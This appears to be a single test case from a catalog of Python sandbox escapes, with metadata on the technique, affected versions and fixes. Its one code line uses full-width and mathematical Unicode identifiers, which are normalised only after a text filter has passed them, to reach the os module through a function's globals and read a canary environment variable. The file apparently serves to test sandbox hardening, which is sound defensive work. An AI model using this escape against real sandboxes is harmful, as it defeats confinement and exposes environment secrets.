# id: nfkc-identifier
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: pygolf and other contest jails
# technique: the parser folds full-width and mathematical letters to plain ones, after a filter on the text has passed them
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random

print(random.choice.__𝘧𝘶𝘯𝘤__.__ｇｌｏｂａｌｓ__["_os"].environ["PADCELL_CANARY"])
